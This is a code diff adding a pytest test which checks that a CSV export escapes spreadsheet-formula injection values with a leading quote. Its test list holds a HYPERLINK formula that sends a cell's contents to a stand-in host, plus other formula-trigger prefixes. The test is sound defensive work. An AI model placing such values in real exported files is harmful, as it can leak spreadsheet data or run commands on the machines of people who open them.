@@ -569,6 +569,30 @@ def test_csv_agreement_columns(
     assert row["final_decision"] == "AUTO_ACCEPT"
 
 
+FORMULAS = ['=HYPERLINK("http://x/?a="&A1,"open")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"]
+
+
+def test_csv_cells_never_start_a_formula(store: Store, tmp_path: Path) -> None:
+    """Issue 14.4: a document named `=HYPERLINK(...)`, `+1+2`, `@SUM(1+1)` (and types, production answers
+    of that shape) is written with a leading `'` in every text column; the JSONL keeps the value as stored."""
+    for i, name in enumerate(FORMULAS):
+        hostile = cls([seg(1, 2, name)], mix(**{name: 1.0}), dominant=name)
+        add(store, name, 1, T1 + timedelta(minutes=i), truth=hostile, primary=hostile, production=name)
+    export(store, tmp_path, ("csv", "jsonl"))
+    rows = read_csv(tmp_path / "ground_truth.csv")
+    assert sorted(r["doc_id"] for r in rows) == sorted("'" + n for n in FORMULAS)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        name = row["doc_id"][1:]
+        assert row["dominant_type"] == row["primary_dominant_type"] == row["production_dominant_type"]
+        assert row["dominant_type"] == "'" + name
+        assert row["document_mixture"] == f"'{name}=1"
+        assert row["gt_id"] == f"gt-{name}-1"  # not at the start: left alone
+    jsonl = [json.loads(line) for line in (tmp_path / "ground_truth.jsonl").read_text().splitlines()]
+    assert sorted(r["doc_id"] for r in jsonl) == sorted(FORMULAS)
+
+
 @pytest.mark.parametrize("checks", [SemanticChecks.RULES_ONLY, SemanticChecks.RULES_AND_MODEL])
 def test_semantic_checks_column_for_accepts_and_reviewed_escalations(
     store: Store, tmp_path: Path, checks: SemanticChecks
